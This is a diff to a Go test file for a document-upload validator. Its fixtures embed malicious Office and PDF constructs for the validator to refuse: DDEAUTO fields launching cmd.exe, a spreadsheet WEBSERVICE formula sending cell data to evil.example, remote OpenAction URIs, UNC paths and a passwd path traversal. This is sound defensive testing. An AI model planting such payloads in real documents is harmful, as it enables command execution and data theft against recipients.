@@ -207,6 +207,23 @@ func TestStoreDocumentRefuses(t *testing.T) {
 		"pdf behind a password":         bytes.Replace(pdf(""), []byte("/Info 5 0 R"), []byte("/Encrypt 6 0 R/Info 5 0 R"), 1),
 		"pdf bomb":                      hiddenPDF(t, "", "<<>>", 70<<20),
 		"half a pdf":                    pdf("")[:60],
+		"pdf of many lists of objects":  manyLists(t, 6, 7<<20),
+		"pdf with a distant document":   pdf(`/OpenAction<</S/GoToR/F(\\\\evil.example\\x)/D[0/Fit]>>`),
+		"pdf that tells who reads":      pdf("/OpenAction<</S/URI/URI(https://evil.example/)>>"),
+		"pdf that tells it afterwards":  pdf("/OpenAction 6 0 R", "<</S/GoTo/D[3 0 R/Fit]/Next[7 0 R]>>", "<</S/URI/URI(https://evil.example/)>>"),
+		"pdf that turns in circles":     pdf("/OpenAction 6 0 R", "<</S/GoTo/D[3 0 R/Fit]/Next 6 0 R>>"),
+		"docx that starts a program":    docx(t, word("word/header1.xml", `<w:fldSimple w:instr=" DDEAUTO c:\\windows\\cmd.exe &quot;/k calc&quot;"/>`)),
+		"docx that starts it in parts":  docx(t, word("word/header1.xml", begin+instruction("DD")+instruction(`EAUTO "cmd"`)+end)),
+		"docx that starts it disguised": docx(t, word("word/header1.xml", begin+instruction(" ")+begin+instruction("QUOTE 68 68 69")+end+instruction(" cmd")+end)),
+		"docx by another name":          docx(t, word("word/header1.dat", begin+instruction("ddeauto cmd")+end)),
+		"docx in other letters":         docx(t, part{"word/header1.xml", utf16(word("", begin+instruction("DDEAUTO cmd")+end).content)}),
+		"docx with another's text":      docx(t, word("word/header1.xml", begin+instruction(`INCLUDETEXT "https://evil.example"`)+end)),
+		"docx with a picture not kept":  docx(t, word("word/header1.xml", begin+instruction(`INCLUDEPICTURE "https://evil.example/a.png" \d`)+end)),
+		"xlsx that starts a program":    docx(t, part{"xl/externalLinks/externalLink1.xml", `<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>`}),
+		"xlsx that asks a server":       docx(t, part{"xl/worksheets/sheet1.xml", `<c r="A1"><f>_xlfn.WEBSERVICE("https://evil.example/"&amp;B1)</f></c>`}),
+		"ods that asks a server":        odt(t, `<text:p t:formula="of:=COM.MICROSOFT.WEBSERVICE(&quot;https://evil.example&quot;)"/>`),
+		"odt with a file of a server":   odt(t, `<draw:image xlink:href="\\evil.example\a.png"/>`),
+		"odt with a winding way out":    odt(t, `<draw:image xlink:href="./%2e%2e/passwd"/>`),
 	} {
 		got[name] = h.refusal(raw)
 	}
@@ -221,6 +238,12 @@ func TestStoreDocumentRefuses(t *testing.T) {
 		"template": "type", "pdf with a script": "active", "pdf with a disguised script": "active", "pdf with a packed script": "active",
 		"pdf that starts a program": "active", "pdf that sends": "active", "pdf with a file": "active", "pdf with an XFA form": "active",
 		"pdf behind a password": "encrypted", "pdf bomb": "unreadable", "half a pdf": "unreadable",
+		"pdf of many lists of objects": "too_large_unpacked", "pdf with a distant document": "active", "pdf that tells who reads": "active",
+		"pdf that tells it afterwards": "active", "pdf that turns in circles": "active", "docx that starts a program": "external",
+		"docx that starts it in parts": "external", "docx that starts it disguised": "external", "docx by another name": "external",
+		"docx in other letters": "external", "docx with another's text": "external", "docx with a picture not kept": "external",
+		"xlsx that starts a program": "external", "xlsx that asks a server": "external", "ods that asks a server": "external",
+		"odt with a file of a server": "external", "odt with a winding way out": "external",
 	}
 	if diff := cmp.Diff(want, got); diff != "" {
 		t.Error(diff)
@@ -230,6 +253,29 @@ func TestStoreDocumentRefuses(t *testing.T) {
 	}
 	if _, err := h.media.StoreDocument(h.Ctx, io.LimitReader(zeros{}, media.MaxDocument+1)); !fault.Is(err, fault.TooLarge) {
 		t.Errorf("too large: %v", err)
+	}
+}
+
+// TestStoreDocumentTakesOrdinaryFields: what people use every day is no danger.
+func TestStoreDocumentTakesOrdinaryFields(t *testing.T) {
+	h := newHouse(t)
+	for name, raw := range map[string][]byte{
+		"page numbers":            docx(t, word("word/footer1.xml", begin+instruction(" PAGE ")+separate+"1"+end+`<w:fldSimple w:instr="NUMPAGES"/>`)),
+		"a link":                  docx(t, word("word/footer1.xml", begin+instruction(`HYPERLINK "https://example.org"`)+separate+"dort"+end)),
+		"a condition":             docx(t, word("word/footer1.xml", begin+instruction("IF ")+begin+instruction("PAGE")+end+instruction(` = 1 "a" "b"`)+end)),
+		"a picture that is kept":  docx(t, word("word/footer1.xml", begin+instruction(`INCLUDEPICTURE "https://example.org/a.png" \* MERGEFORMATINET`)+end)),
+		"a place to write":        docx(t, word("word/footer1.xml", begin+instruction("MACROBUTTON Nichts [Bitte ausfüllen]")+end)),
+		"a text about a function": docx(t, word("word/footer1.xml", "<w:p>Mit WEBSERVICE(Adresse) und DDEAUTO</w:p>")),
+		"a sum":                   docx(t, part{"xl/worksheets/sheet1.xml", `<c r="A1"><f>SUM(A1:A3)+LINEDDE(1)</f></c>`}),
+		"a pdf at a page":         pdf("/OpenAction[3 0 R/Fit]"),
+		"a pdf at a page, by way": pdf("/OpenAction 6 0 R", "<</S/GoTo/D[3 0 R/Fit]>>"),
+		"a pdf with a link":       pdf("", "<</Type/Annot/Subtype/Link/A<</S/URI/URI(https://example.org)>>>>"),
+		"a pdf of some lists":     manyLists(t, 3, 1<<20),
+		"a picture of its own":    odt(t, `<draw:image xlink:href="./Pictures/a.png"/><draw:image xlink:href="Pictures/b.png"/>`),
+	} {
+		if got := h.refusal(raw); got != "" {
+			t.Errorf("%s: %s", name, got)
+		}
 	}
 }
 
